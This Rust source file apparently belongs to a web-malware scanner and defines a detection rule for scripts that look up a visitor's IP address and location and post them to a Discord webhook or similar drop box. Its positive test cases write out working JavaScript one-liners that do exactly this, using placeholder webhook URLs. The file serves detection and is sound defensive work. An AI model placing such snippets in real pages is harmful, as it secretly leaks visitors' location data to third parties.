//! `visitor-placed-for-bot`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::Mark;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "visitor-placed-for-bot",
    description: "The script looks up the visitor's network address and location and sends them to a public drop box or a chat bot.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AddressLookup]), one(&[Atom::DropBox]), one(&[Atom::Post, Atom::PostMethod])],
    within: 250,
    only_if: Some(tells),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})}))",
            "(async()=>{const r=await fetch('https://api.ipify.org');const t=await r.text();await fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:t+' at '+location.href})})})()",
            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>{n.value=o.value;fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})})})",
        ],
        without: &[
            "fetch('https://api.ipify.org').then(r=>r.text()).then(ip=>{if(ip!==last)fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:'The server has a new address: '+ip})})})",
            "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>{country.value=d.country});form.onsubmit=()=>fetch('https://formspree.io/f/x',{method:'POST',body:new FormData(form)})",
            "fetch('https://ipapi.co/json').then(r=>r.json()).then(d=>show(d.city));b.onclick=()=>fetch('https://hooks.slack.com/x',{method:'POST',body:JSON.stringify({text:note.value})})",
        ],
    },
};

/// Whether several things that such a service answers are named, and what is sent is nothing of a form.
fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    let mut told: Vec<&str> = near.words(PLACE).map(|at| near.word(at)).collect();
    told.sort_unstable();
    told.dedup();
    let placed = told.len() >= 3 && near.has_word(&["ip", "query", "IP"]);
    // The address alone, with the page that was visited or the browser.
    let noted = || {
        near.has_text(&["ipify.org", "jsonip.com", "cdn-cgi/trace", "ifconfig.me"])
            && near.has_word(&["href", "userAgent", "referrer"])
            && near.has_word(&["location", "navigator", "document"])
            && near.has_word(&["content", "embeds", "chat_id"])
    };
    let told = || {
        let mut sent = evidence.flows.iter().filter(|flow| near.places().contains(&(flow.at as usize)));
        sent.any(|flow| flow.sink.leaves() && flow.marks.has(Mark::DropBox) && !flow.marks.has(Mark::Field))
    };
    (placed || noted()) && told()
}

/// What is known of an address.
const PLACE: &[&str] = &[
    "ip",
    "city",
    "region",
    "regionName",
    "country",
    "country_name",
    "countryCode",
    "org",
    "isp",
    "loc",
    "timezone",
    "postal",
    "hostname",
    "latitude",
    "longitude",
    "lat",
    "lon",
];
